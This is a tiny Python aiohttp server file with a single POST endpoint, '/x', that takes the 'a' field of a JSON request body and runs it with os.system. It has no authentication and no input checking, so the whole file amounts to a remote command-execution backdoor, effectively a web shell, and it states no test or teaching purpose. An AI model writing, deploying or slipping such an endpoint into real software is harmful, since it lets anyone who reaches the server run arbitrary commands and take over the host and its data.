import os
from aiohttp import web
routes = web.RouteTableDef()
@routes.post('/x')
async def x(request):
    os.system((await request.json())['a'])
    return web.Response()
app = web.Application()
app.add_routes(routes)
